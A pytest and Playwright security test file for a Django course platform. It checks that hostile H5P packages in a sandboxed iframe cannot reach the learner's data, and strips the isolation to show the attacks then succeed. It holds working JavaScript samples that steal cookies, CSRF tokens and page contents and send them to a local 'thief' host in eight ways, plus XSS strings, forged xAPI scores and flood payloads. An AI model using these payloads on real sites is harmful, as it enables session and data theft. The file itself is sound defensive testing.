"""Packages made to do harm: all of it is contained, and each attack is shown to work where the isolation is taken away.

A package can hold any script. What shuts it in is four things together: the frame's sandbox, the policy of the player's
page, the policy of ours, and that the server believes nothing. Without them the same packages read the learner's pages.
"""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from django.core.files.base import ContentFile
from django.core.files.storage import storages

import pytest
from playwright.sync_api import Frame, Page, Route, expect

from assessments.models import Attempt
from courses.models import Enrolment
from courses.services import enrol
from media.models import H5PActivity
from tests import factories as make
from tests.packages import make_activity, talker

PLACE = make.step_id("h5p")


class Thief:
    """Another host that takes whatever is sent to it."""

    def __init__(self) -> None:
        self.taken: list[str] = []
        taken = self.taken

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                taken.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<!DOCTYPE html><title>Taken</title>")

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *args: object) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"

    def got(self, what: str) -> bool:
        return any(path.startswith(f"/{what}") for path in self.taken)


@pytest.fixture
def thief() -> Iterator[Thief]:
    host = Thief()
    threading.Thread(target=host.server.serve_forever, daemon=True).start()
    yield host
    host.server.shutdown()


@pytest.fixture
def opened(
    transactional_db: None, tmp_path: Path, screen: Page, sign_in: Any
) -> Callable[..., tuple[Page, Enrolment]]:
    """Open a step with a hostile package, isolated or not."""

    def open_step(run: str, *, isolated: bool = True, **content: Any) -> tuple[Page, Enrolment]:
        course = make.course_page(tmp_path / "pack", lessons=1, h5p={})
        activity = H5PActivity.objects.get()
        activity.versions.all().delete()
        make_activity(talker(run, **content), title="Hostile")
        activity.versions.add(*H5PActivity.objects.get(title="Hostile").versions.all())
        learner = make.person("Kim Ng")
        enrolment = enrol(learner=learner, course=make.release(course).course)
        make.finish_up_to(enrolment, "h5p")
        if not isolated:
            take_isolation_away(screen)
        sign_in(screen, learner)
        screen.goto(make.step_url(enrolment, "h5p"))
        return screen, enrolment

    return open_step


def take_isolation_away(page: Page) -> None:
    """Serve the same pages without the sandbox and without the policies."""

    def without_policy(route: Route) -> None:
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if name != "content-security-policy"}
        route.fulfill(response=answer, headers=headers)

    def without_sandbox(route: Route) -> None:
        answer = route.fetch()
        everything = "allow-scripts allow-same-origin allow-forms allow-popups allow-top-navigation"
        assert '"allow-scripts"' in answer.text()
        route.fulfill(response=answer, body=answer.text().replace('"allow-scripts"', f'"{everything}"'))

    page.route("**/h5p/player/", without_policy)
    page.route("**/learn/*/*/", without_policy)
    page.route("**/activity.js", without_sandbox)


def frame_in(page: Page) -> Frame:
    expect(page.locator(".up-activity--ready")).to_have_count(1)
    handle = page.locator(".up-activity iframe").element_handle()
    frame = handle.content_frame()
    assert frame is not None
    return frame


STEAL = """
window.loot = {};
const note = (name, value) => (window.loot[name] = String(value));
const attempt = async (name, steal) => {
  try { note(name, await steal()); } catch (error) { note(name, "REFUSED " + error.name); }
};
window.stolen = Promise.all([
  attempt("cookie", () => document.cookie),
  attempt("token", () => parent.document.querySelector("[name=csrfmiddlewaretoken]").value),
  attempt("name", () => parent.document.querySelector(".up-header__name").textContent),
  attempt("storage", () => { parent.sessionStorage.setItem("x", "1"); return "written"; }),
  attempt("page", () => fetch("/learning/", { credentials: "include" }).then((answer) => answer.text())),
  attempt("sandbox", () => { parent.document.querySelector("iframe").removeAttribute("sandbox"); return "removed"; }),
]);
"""
SEND = """
window.sent = (async () => {
  const to = (way) => params.thief + "/" + way;
  const quietly = async (send) => { try { await send(); } catch { /* refused */ } };
  await quietly(() => fetch(to("fetch")));
  await quietly(() => navigator.sendBeacon(to("beacon"), "x"));
  await quietly(() => new Promise((done) => {
    const picture = new Image();
    picture.onload = picture.onerror = done;
    picture.src = to("image");
  }));
  await quietly(() => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = frame.onerror = done;
    frame.src = to("iframe");
    root.append(frame);
    setTimeout(done, 500);
  }));
  await quietly(() => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = script.onerror = done;
    script.src = to("script");
    root.append(script);
  }));
  await quietly(() => new Promise((done) => {
    const style = document.createElement("link");
    style.rel = "stylesheet";
    style.onload = style.onerror = done;
    style.href = to("style");
    document.head.append(style);
  }));
  await quietly(() => new Promise((done) => {
    const hint = document.createElement("link");
    hint.rel = "prefetch";
    hint.onload = hint.onerror = done;
    hint.href = to("prefetch");
    document.head.append(hint);
    setTimeout(done, 500);
  }));
  await quietly(() => {
    const form = document.createElement("form");
    form.action = to("form");
    form.target = "away";
    form.innerHTML = '<iframe name="away"></iframe>';
    root.append(form);
    form.submit();
    return new Promise((done) => setTimeout(done, 500));
  });
  await quietly(() => window.open(to("popup")));
  await new Promise((done) => setTimeout(done, 300));
  return true;
})();
"""
WAYS = ("fetch", "beacon", "image", "iframe", "script", "style", "form", "popup")


def test_a_package_reads_nothing_of_the_learner(opened: Callable[..., tuple[Page, Enrolment]]) -> None:
    page, _ = opened(STEAL)
    frame = frame_in(page)
    frame.evaluate("window.stolen")
    loot = frame.evaluate("window.loot")
    assert loot["cookie"] == ""
    assert {name: loot[name] for name in ("token", "name", "storage", "sandbox")} == dict.fromkeys(
        ("token", "name", "storage", "sandbox"), "REFUSED SecurityError"
    )
    assert loot["page"] == "REFUSED TypeError"
    assert page.evaluate("sessionStorage.getItem('x')") is None
    assert frame.evaluate("self.origin") == "null"
    assert frame.evaluate("[typeof RTCPeerConnection, typeof WebTransport]") == ["undefined", "undefined"]


def test_without_the_isolation_it_reads_all_of_it(opened: Callable[..., tuple[Page, Enrolment]]) -> None:
    page, _ = opened(STEAL, isolated=False)
    frame = frame_in(page)
    frame.evaluate("window.stolen")
    loot = frame.evaluate("window.loot")
    assert len(loot["token"]) >= 32
    assert "Kim Ng" in loot["name"]
    assert "Kim Ng" in loot["page"]  # somebody else's page, with the learner's session
    assert (loot["storage"], loot["sandbox"]) == ("written", "removed")


def test_a_package_sends_nothing_to_another_host(
    opened: Callable[..., tuple[Page, Enrolment]], thief: Thief
) -> None:
    page, _ = opened(SEND, thief=thief.url)
    assert frame_in(page).evaluate("window.sent")
    assert thief.taken == []


def test_without_the_isolation_it_sends_in_every_way(
    opened: Callable[..., tuple[Page, Enrolment]], thief: Thief
) -> None:
    page, _ = opened(SEND, thief=thief.url, isolated=False)
    assert frame_in(page).evaluate("window.sent")
    assert [way for way in WAYS if not thief.got(way)] == []


PRESS = """
for (let n = 0; n < 3; n += 1) {
  window.dispatchEvent(new KeyboardEvent("keydown", { key: "Shift", bubbles: true }));
  window.dispatchEvent(new KeyboardEvent("keyup", { key: "Shift", bubbles: true }));
}
"""


def test_a_package_that_presses_keys_by_itself_does_not_sign_anybody_out(
    opened: Callable[..., tuple[Page, Enrolment]],
) -> None:
    page, _ = opened(PRESS)
    frame_in(page)
    page.wait_for_timeout(800)
    assert "/learn/" in page.url
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def test_a_package_shows_no_page_of_ours_in_its_frame(
    opened: Callable[..., tuple[Page, Enrolment]],
) -> None:
    page, _ = opened("setTimeout(() => { location.href = '/account/login/'; }, 300);")
    page.wait_for_timeout(1500)
    assert not any("/account/" in frame.url for frame in page.frames)


LEAVE = "setTimeout(() => { location.href = params.thief + '/moved?with=the+answers'; }, 300);"
TAKE_ALL = "setTimeout(() => { try { top.location.href = params.thief + '/top'; } catch {} }, 300);"


@pytest.mark.parametrize(("run", "way"), [(LEAVE, "moved"), (TAKE_ALL, "top")])
@pytest.mark.parametrize("isolated", [True, False])
def test_a_package_leads_neither_its_frame_nor_the_page_away(
    opened: Callable[..., tuple[Page, Enrolment]], thief: Thief, run: str, way: str, *, isolated: bool
) -> None:
    page, _ = opened(run, thief=thief.url, isolated=isolated)
    page.wait_for_timeout(1800)
    assert thief.got(way) is not isolated
    if isolated:
        assert "/learn/" in page.url


TEXTS = [
    "<img src=x onerror='window.ran = 1'>",
    "<script>window.ran = 1</script>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<svg onload='window.ran = 1'></svg>",
    "<a href='javascript:window.ran = 1' id='trap'>x</a>",
]
WRITE = """
params.texts.forEach((text) => {
  const place = document.createElement("div");
  root.append(place);
  H5P.jQuery(place).html(text);
});
root.querySelector("#trap").click();
"""


@pytest.mark.parametrize("isolated", [True, False])
def test_script_in_the_texts_of_a_package_does_not_run(
    opened: Callable[..., tuple[Page, Enrolment]], *, isolated: bool
) -> None:
    page, _ = opened(WRITE, texts=TEXTS, isolated=isolated)
    frame = frame_in(page)
    page.wait_for_timeout(500)
    assert frame.evaluate("window.ran === 1") is not isolated


FORGE = """
["completed", "passed", "mastered"].forEach((verb) => {
  const event = self.createXAPIEventTemplate(verb);
  event.data.statement.actor = { mbox: "mailto:somebody@example.org", objectType: "Agent" };
  event.data.statement.result = { score: { scaled: 999, raw: 1e9 }, success: true, completion: true };
  self.trigger(event);
});
"""


def test_a_forged_score_is_not_believed_and_a_forged_person_is_the_learner(
    opened: Callable[..., tuple[Page, Enrolment]],
) -> None:
    page, enrolment = opened(FORGE)
    frame_in(page)
    expect(page.locator("[data-status]")).to_contain_text("Saved")
    attempt = Attempt.objects.get()
    assert attempt.score is None
    said = [one for one in make.said() if PLACE in one["object"]["id"]]
    assert {one["actor"]["account"]["name"] for one in said} == {str(enrolment.learner.actor_id)}
    assert not any("score" in one.get("result", {}) for one in said)
    assert "somebody" not in str(said)


FLOOD = """
let sent = 0;
setInterval(() => {
  for (let n = 0; n < 100; n += 1) {
    const event = self.createXAPIEventTemplate("completed");
    event.setScoredResult(sent % 10, 10, self, true, true);
    self.trigger(event);
    sent += 1;
  }
}, 20);
"""


def test_a_flood_is_stopped_and_the_learner_told(opened: Callable[..., tuple[Page, Enrolment]]) -> None:
    posts: list[str] = []
    page, _ = opened(FLOOD)
    page.on("request", lambda request: posts.append(request.url) if request.method == "POST" else None)
    status = page.locator("[data-status]")
    expect(status).to_contain_text("it sent too much")
    expect(status).to_contain_text("Saved")  # what came before the flood, answered after it
    expect(status).to_contain_text("it sent too much")
    expect(page.locator(".up-activity iframe")).to_have_count(0)
    expect(page.locator(".up-activity details")).to_have_attribute("open", "")
    page.wait_for_timeout(1500)
    assert len(posts) < 20
    assert len(Attempt.objects.get().state["results"]) <= 50


GIANT = """
const event = self.createXAPIEventTemplate("completed");
event.data.statement.result = { response: "x".repeat(5000000), completion: true };
self.trigger(event);
H5P.setUserData("activity", "state", { all: "x".repeat(5000000) });
"""


def test_a_giant_message_is_not_sent_on(opened: Callable[..., tuple[Page, Enrolment]]) -> None:
    sizes: list[int] = []
    page, _ = opened(GIANT)
    page.on("request", lambda request: sizes.append(len(request.post_data or "")))
    frame_in(page)
    page.wait_for_timeout(3000)
    assert max(sizes, default=0) < 300_000
    assert not Attempt.objects.filter(state__has_key="results").exists()


def test_a_file_of_a_package_that_is_opened_by_its_address_is_nobodys_page(
    opened: Callable[..., tuple[Page, Enrolment]], live_server: Any
) -> None:
    page, _ = opened("")
    version = H5PActivity.objects.get(title="A talker").current
    assert version is not None
    picture = b'<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = origin</script></svg>'
    storages["packages"].save(f"{version.sha256}/Test.Talker-1.0/x.svg", ContentFile(picture))
    page.goto(f"/h5p/{version.sha256}/Test.Talker-1.0/x.svg")
    assert page.evaluate("self.origin") == "null"
    assert page.title() == ""
    page.goto("/h5p/player/")
    assert page.evaluate("self.origin") == "null"
    refused = page.evaluate(
        "(() => { try { return document.cookie } catch (error) { return error.name } })()"
    )
    assert refused in ("", "SecurityError")


def test_another_site_may_not_show_the_player(browser: Any, live_server: Any, thief: Thief) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{thief.url}/host")
    page.set_content(f'<iframe src="{live_server.url}/h5p/player/"></iframe>')
    page.wait_for_timeout(800)
    assert not any(frame.url.endswith("/h5p/player/") for frame in page.frames)
    context.close()
